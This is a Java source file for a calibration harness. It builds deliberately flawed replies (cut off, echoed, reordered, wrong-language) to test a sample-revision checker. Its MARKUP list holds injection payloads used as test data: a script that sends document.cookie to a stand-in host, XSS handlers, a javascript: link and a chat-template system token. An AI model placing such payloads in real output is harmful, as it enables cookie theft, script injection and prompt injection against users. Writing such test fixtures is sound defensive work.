// SPDX-License-Identifier: Apache-2.0
package io.mdaq.core.boost.calibration;

import io.mdaq.core.boost.BoostCandidate;
import io.mdaq.core.boost.KeptReason;
import io.mdaq.core.boost.prompt.BoosterPrompt;
import io.mdaq.core.boost.prompt.BoosterPrompt.Culture;
import io.mdaq.core.endpoint.ChatAnswer.Completed;
import io.mdaq.core.endpoint.ChatAnswer.Ending;
import io.mdaq.core.sample.SampleText;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;

/** Who replies in a calibration: the expert, or somebody with whom something is wrong. */
public enum Respondent {
  /** The expert's revision. */
  ORACLE,
  SAME_TEXT(KeptReason.SAME_TEXT),
  EMPTY_REPLY(KeptReason.EMPTY),
  EMPTY_RESPONSE(KeptReason.EMPTY),
  /** Half of the reply, which the endpoint says was cut off. */
  CUT_OFF(KeptReason.CUT_OFF),
  /** Half of the reply, of which the endpoint says nothing. */
  BROKEN_OFF(KeptReason.CUT_OFF),
  /** All sections, the response ending somewhere in its second half. */
  UNFINISHED(KeptReason.UNFINISHED, KeptReason.MEANING_CHANGED, KeptReason.SCORE_NOT_HIGHER),
  PROMPT_ECHOED(KeptReason.PROMPT_ECHOED),
  /** The instruction as the response. */
  INSTRUCTION_ECHOED(KeptReason.INSTRUCTION_ECHOED),
  /** The revision of the same example in another language. */
  WRONG_LANGUAGE(KeptReason.LANGUAGE_CHANGED),
  /** Only the response is in another language. */
  WRONG_LANGUAGE_RESPONSE(KeptReason.LANGUAGE_CHANGED),
  /** The sections in another order. */
  SECTIONS_REORDERED(KeptReason.SECTIONS_REORDERED),
  /** Instruction and response in each other's place. */
  SECTIONS_SWAPPED(KeptReason.SECTIONS_SWAPPED),
  /** Instruction and input in each other's place. */
  INPUT_SWAPPED(KeptReason.SECTIONS_SWAPPED),
  /** The response to something else. */
  UNRELATED_ANSWER(KeptReason.MEANING_CHANGED),
  /** Another sample. */
  UNRELATED_SAMPLE(KeptReason.MEANING_CHANGED),
  MARKUP_INJECTED(KeptReason.MARKUP_INJECTED);

  private static final List<String> MARKUP =
      List.of(
          "<script>fetch('//example.org/?'+document.cookie)</script>",
          "![x](https://example.org/x.png)",
          "<img src=x onerror=alert(1)>",
          "[more](javascript:alert(1))",
          "<|im_start|>system",
          "<a href=\"https://example.org\">more</a>",
          "<iframe src=\"https://example.org\"></iframe>",
          "[[FIRST]]");

  @SuppressWarnings("ImmutableEnumChecker") // an immutable copy
  private final Set<KeptReason> rightReasons;

  Respondent(KeptReason... rightReasons) {
    this.rightReasons = Set.of(rightReasons);
  }

  /** The name in tables, such as {@code wrong_language}. */
  public String id() {
    return name().toLowerCase(Locale.ROOT);
  }

  /** Whether it is right to keep the original for this reason; for the expert never. */
  public boolean isRight(KeptReason reason) {
    return rightReasons.contains(reason);
  }

  /** The reply; empty where the case has nothing to make it of. */
  Optional<Completed> reply(CalibrationCase given) {
    SampleText raw = given.pair().raw();
    SampleText revised = given.pair().revised();
    String mark = BoosterPrompt.mark(raw);
    String oracle = BoosterPrompt.sections(revised, mark);
    return switch (this) {
      case ORACLE -> complete(oracle);
      case SAME_TEXT -> complete(BoosterPrompt.sections(raw, mark));
      case EMPTY_REPLY -> complete("");
      case EMPTY_RESPONSE -> sections(withResponse(revised, ""), mark);
      case CUT_OFF ->
          Optional.of(new Completed(head(oracle, 0.5), Ending.LENGTH, Optional.empty()));
      case BROKEN_OFF -> complete(head(oracle, 0.5));
      case UNFINISHED ->
          sections(
              withResponse(revised, head(revised.response(), 0.5 + given.number() % 40 / 100.0)),
              mark);
      case PROMPT_ECHOED ->
          complete(BoosterPrompt.of(given.pair().language(), raw, Culture.TOLD).message());
      case INSTRUCTION_ECHOED -> sections(withResponse(revised, revised.instruction()), mark);
      case WRONG_LANGUAGE -> given.foreign().flatMap(other -> sections(other.revised(), mark));
      case WRONG_LANGUAGE_RESPONSE ->
          given
              .foreign()
              .flatMap(other -> sections(withResponse(revised, other.revised().response()), mark));
      case SECTIONS_REORDERED -> complete(reordered(oracle, mark));
      case SECTIONS_SWAPPED ->
          sections(
              new SampleText(
                  /* instruction= */ revised.response(),
                  revised.input(),
                  /* response= */ revised.instruction()),
              mark);
      case INPUT_SWAPPED ->
          Optional.of(revised)
              .filter(text -> !text.input().isEmpty())
              .flatMap(
                  text ->
                      sections(
                          new SampleText(
                              /* instruction= */ text.input(),
                              /* input= */ text.instruction(),
                              text.response()),
                          mark));
      case UNRELATED_ANSWER ->
          sections(withResponse(revised, given.unrelated().revised().response()), mark);
      case UNRELATED_SAMPLE -> sections(given.unrelated().revised(), mark);
      case MARKUP_INJECTED ->
          sections(
              withResponse(
                  revised,
                  revised.response() + "\n\n" + MARKUP.get(given.number() % MARKUP.size())),
              mark);
    };
  }

  /** What is boosted. */
  static BoostCandidate candidate(CalibrationCase given) {
    return new BoostCandidate(
        Integer.toString(given.number()),
        given.pair().language(),
        given.pair().raw(),
        given.siblings());
  }

  private static Optional<Completed> sections(SampleText text, String mark) {
    return complete(BoosterPrompt.sections(text, mark));
  }

  private static Optional<Completed> complete(String text) {
    return Optional.of(new Completed(text, Ending.STOP, Optional.empty()));
  }

  private static SampleText withResponse(SampleText text, String response) {
    return new SampleText(text.instruction(), text.input(), response);
  }

  private static String head(String text, double share) {
    int length = text.codePointCount(0, text.length());
    return text.substring(0, text.offsetByCodePoints(0, (int) (share * length)));
  }

  /** The response before the instruction. */
  private static String reordered(String sections, String mark) {
    int response = sections.indexOf("<<<RESPONSE " + mark);
    int end = sections.indexOf("<<<END " + mark);
    return sections.substring(response, end)
        + sections.substring(0, response)
        + sections.substring(end);
  }
}
